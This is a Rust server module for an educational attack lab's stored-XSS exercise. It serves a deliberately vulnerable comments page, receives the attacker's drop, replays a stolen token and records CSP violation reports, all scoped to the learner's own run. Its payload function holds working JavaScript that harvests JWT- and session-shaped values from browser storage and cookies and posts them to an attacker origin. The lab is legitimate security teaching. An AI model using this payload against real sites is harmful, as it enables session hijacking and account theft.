//! The attack lab's XSS card, server side: a deliberately vulnerable page, the attacker's drop and
//! the browser's CSP reports.
//!
//! - `POST /api/lab/xss/start` (signed in, within `limits.attacks_per_account`) makes a run of
//!   the learner's own, under a nonce the server makes (`store::probes`).
//! - `GET /attacks/xss-victim?run=…` is a comments page that prints a comment as raw HTML, the
//!   classic stored-XSS bug. The comment is the attacker's and holds a real inline `<script>`.
//!   The lab plants it itself: the page renders nothing a request sends (the run must be one the
//!   signed-in learner started), so it cannot be turned against anyone else. It needs a
//!   signed-in session: the page is served **without** a Content-Security-Policy only for an
//!   account that switched `xss_weakened` on (that account only, that page only, and the page
//!   says so); for everyone else it carries the lab's own policy, which refuses an inline script
//!   without the response's nonce, and a `report-uri` so the browser tells the lab it did.
//! - `POST /attacker/xss-drop?run=…` is where the script sends what it found (served under any of
//!   the lab's names; the card's script uses the second site's). The attacker then replays the
//!   first stolen token from another client (`GET /api/me`, another address, no cookie) and the
//!   lab records the answer: once per run, so the drop is no free token checker (runs come from
//!   the learner's attack budget). Only the first characters of anything stolen are kept.
//! - `POST /api/lab/xss/csp-report?run=…` takes the browser's CSP violation report.
//! - `GET /api/lab/xss/result?run=…` is what the card reads back, its starter only.
//!
//! The drop and the report fill in a run that exists, nothing else: nobody signed out can fill
//! the table and blind the card for the class.

use super::{
    cross_site_probe::is_nonce,
    in_process::{InProcessRequest, InProcessResponse},
};
use crate::wire::paths;
use crate::{
    api::{
        client_addr::ClientAddr,
        error::ApiError,
        extract::{auth_user::AuthUser, cookie_user::CookieUser},
    },
    challenges::event::{Happened, LabRun},
    db::unix_now,
    http::security_headers,
    logging::echo,
    state::AppState,
    wire::{ApiErrorBody, LabRunStarted, Me, XssFinding, XssReplay, XssResult},
};
use axum::{
    body::Bytes,
    extract::{Query, State},
    http::{header, HeaderMap, HeaderValue, Method},
    response::{Html, IntoResponse, Response},
    routing::{get, post},
    Json, Router,
};
use serde::Deserialize;

/// The most a drop or a CSP report may carry; anything longer is refused unread.
const MAX_BODY: usize = 8 * 1024;
/// Findings kept per drop, and characters kept of each stolen value.
const MAX_FINDINGS: usize = 8;
const PREVIEW_CHARS: usize = 24;
/// The attacker's other client, as the replay's sender address (TEST-NET-3).
const ATTACKER_CLIENT: &str = "203.0.113.66";

pub fn router() -> Router<AppState> {
    Router::new()
        .route(paths::lab::XSS_START, post(start))
        .route(paths::attacker::XSS_VICTIM, get(victim_page))
        .route(paths::attacker::XSS_DROP, post(drop))
        .route(paths::lab::XSS_CSP_REPORT, post(csp_report))
        .route(paths::lab::XSS_RESULT, get(result))
}

#[derive(Deserialize)]
struct RunId {
    run: String,
}

/// The run nonce, or a 422 (anything else is refused unread).
fn checked(run: &str) -> Result<&str, ApiError> {
    is_nonce(run).then_some(run).ok_or_else(|| {
        ApiError::InvalidBody("run must be 16 to 64 characters of A-Z a-z 0-9 - _".into())
    })
}

/// The attacker's script, as it would arrive in a comment: it reads every storage a script can
/// read for credential-shaped values, and `document.cookie`, and sends them to `drop_url`. A
/// credential is a JWT (`eyJ….….…`) or an opaque id (22 to 64 base64url characters, as a session
/// id kept for `Authorization: Bearer` is): looking for JWTs alone, a session id in storage would
/// show as "nothing stolen", which is the folklore, not the truth.
fn payload(drop_url: &str) -> String {
    format!(
        r#"(function () {{
  var found = [];
  [["localStorage", window.localStorage], ["sessionStorage", window.sessionStorage]].forEach(function (s) {{
    for (var i = 0; i < s[1].length; i++) {{
      var key = s[1].key(i), value = s[1].getItem(key) || "";
      if (/^(eyJ[\w-]*\.[\w-]*\.[\w-]*|[\w-]{{22,64}})$/.test(value)) found.push({{ place: s[0] + "[" + key + "]", value: value }});
    }}
  }});
  fetch("{drop_url}", {{ method: "POST", mode: "no-cors", body: JSON.stringify({{ found: found, cookie: document.cookie }}) }});
}})();"#
    )
}

/// A run of the signed-in learner's: one of their attack-lab runs.
async fn start(
    State(state): State<AppState>,
    user: AuthUser,
    headers: HeaderMap,
) -> Result<Json<LabRunStarted>, ApiError> {
    super::start_run(&state, &headers, &user, &state.lab.xss_runs).await
}

async fn victim_page(
    State(state): State<AppState>,
    user: CookieUser,
    headers: HeaderMap,
    Query(query): Query<RunId>,
) -> Result<Response, ApiError> {
    let run = checked(&query.run)?;
    if !state
        .lab
        .xss_runs
        .owned_by(run, user.session.user.id, unix_now())
    {
        return Err(ApiError::NoSuchRun);
    }
    let switches = state
        .auth
        .account_settings
        .get(user.session.user.id)
        .await?;
    let host = headers
        .get(header::HOST)
        .and_then(|h| h.to_str().ok())
        .unwrap_or("");
    // The loot goes to the second site when there is one, as a real attacker's would.
    let attacker = state
        .hosting
        .attacker_origin_for("http", host)
        .unwrap_or_default();
    let drop_url = format!("{attacker}{}?run={run}", paths::attacker::XSS_DROP);
    let (banner, policy) = if switches.xss_weakened {
        (
            "Content-Security-Policy is OFF on this page, for this account only (deliberately \
             weakened in the attack lab): the script in the comment below runs.",
            None,
        )
    } else {
        // The lab's own policy (an inline script needs this response's nonce, which the planted
        // one cannot know), framed only by the lab itself, and the browser reports the refusal.
        let nonce = crate::auth::csrf::new_token();
        let policy = security_headers::policy(&nonce, None)
            .replace("frame-ancestors 'none'", "frame-ancestors 'self'");
        (
            "Content-Security-Policy is ON: the script in the comment below is refused by the \
             browser, and the browser reports it to the lab.",
            Some(format!(
                "{policy}; report-uri /api/lab/xss/csp-report?run={run}"
            )),
        )
    };
    let page = format!(
        r#"<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Comments (a deliberately vulnerable page)</title></head>
<body>
<p><strong>A deliberately vulnerable page of the attack lab.</strong> {banner}</p>
<h1>Comments</h1>
<div class="comment"><b>mallory</b> wrote: Great post, thanks!<script>{script}</script></div>
</body>
</html>"#,
        script = payload(&drop_url),
    );
    let mut response = Html(page).into_response();
    let headers = response.headers_mut();
    if let Some(value) = policy.and_then(|p| HeaderValue::from_str(&p).ok()) {
        headers.insert(header::CONTENT_SECURITY_POLICY, value);
    }
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    Ok(response)
}

#[derive(Deserialize)]
struct Loot {
    #[serde(default)]
    found: Vec<Stolen>,
    #[serde(default)]
    cookie: String,
}

#[derive(Deserialize)]
struct Stolen {
    place: String,
    value: String,
}

async fn drop(
    State(state): State<AppState>,
    Query(query): Query<RunId>,
    body: Bytes,
) -> Result<Response, ApiError> {
    let run = checked(&query.run)?.to_string();
    if body.len() > MAX_BODY {
        return Err(ApiError::BodyTooLarge(MAX_BODY));
    }
    let loot: Loot = serde_json::from_slice(&body)
        .map_err(|_| ApiError::InvalidBody("a drop is JSON: {found, cookie}".into()))?;
    let now = unix_now();
    if !state.lab.xss_runs.exists(&run, now) {
        return Err(ApiError::NoSuchRun);
    }
    // The attacker replays the first stolen token from their own client: once per run.
    let replay = match loot.found.first() {
        Some(stolen) if stolen.value.len() <= MAX_BODY && state.lab.xss_runs.spend(&run, now) => {
            Some(replay(&state, &stolen.value).await)
        }
        _ => None,
    };
    // A stolen token the server accepted from the attacker's client: the run's learner saw an
    // XSS theft work end to end (the challenge that asks for it is judged on this answer).
    if replay.as_ref().is_some_and(|r| r.status == 200) {
        if let Some(owner) = state.lab.xss_runs.owner_of(&run, now) {
            state
                .auth
                .challenges
                .note(owner, Happened::LabRun(LabRun::TokenStolenAndReplayed));
        }
    }
    let found: Vec<XssFinding> = loot
        .found
        .iter()
        .take(MAX_FINDINGS)
        .map(|s| XssFinding {
            place: echo::shown(&s.place, 64),
            preview: echo::shown(&s.value, PREVIEW_CHARS),
        })
        .collect();
    let cookie_seen = echo::shown(&loot.cookie, 200);
    let filled = state.lab.xss_runs.fill(&run, unix_now(), move |record| {
        record.script_ran = true;
        record.found = found;
        record.cookie_seen = Some(cookie_seen);
        if replay.is_some() {
            record.replay = replay;
        }
    });
    if !filled {
        return Err(ApiError::NoSuchRun);
    }
    Ok(axum::http::StatusCode::NO_CONTENT.into_response())
}

/// `GET /api/me` with the stolen token, from the attacker's address, with no cookie and no key:
/// a thief on another machine (the transport grid's replays too, `lab::steal_replay`).
pub async fn replay(state: &AppState, token: &str) -> XssReplay {
    let answer: InProcessResponse = InProcessRequest::new(Method::GET, paths::ME)
        .bearer(token)
        .on_behalf_of(&ClientAddr(ATTACKER_CLIENT.into()))
        .send(state)
        .await;
    let refused_by = answer
        .json::<ApiErrorBody>()
        .and_then(|body| body.auth)
        .and_then(|trace| trace.failed_check().map(|c| c.name.to_string()));
    XssReplay {
        status: answer.status.as_u16(),
        username: answer.json::<Me>().map(|me| me.username),
        refused_by,
        client: ATTACKER_CLIENT.into(),
    }
}

async fn csp_report(
    State(state): State<AppState>,
    Query(query): Query<RunId>,
    body: Bytes,
) -> Result<Response, ApiError> {
    let run = checked(&query.run)?.to_string();
    if body.len() > MAX_BODY {
        return Err(ApiError::BodyTooLarge(MAX_BODY));
    }
    let report: serde_json::Value = serde_json::from_slice(&body)
        .map_err(|_| ApiError::InvalidBody("a CSP report is JSON".into()))?;
    let directive = report
        .pointer("/csp-report/effective-directive")
        .or_else(|| report.pointer("/csp-report/violated-directive"))
        .and_then(|d| d.as_str())
        .unwrap_or("a directive the report did not name");
    let directive = echo::shown(directive, 64);
    let filled = state.lab.xss_runs.fill(&run, unix_now(), move |record| {
        record.csp_blocked = Some(directive);
    });
    if !filled {
        return Err(ApiError::NoSuchRun);
    }
    Ok(axum::http::StatusCode::NO_CONTENT.into_response())
}

/// The run's record, to the learner who started it only.
async fn result(
    State(state): State<AppState>,
    user: AuthUser,
    Query(query): Query<RunId>,
) -> Result<Json<XssResult>, ApiError> {
    let run = checked(&query.run)?;
    state
        .lab
        .xss_runs
        .read(run, user.user_id(), unix_now())
        .map(Json)
        .ok_or(ApiError::NoSuchRun)
}
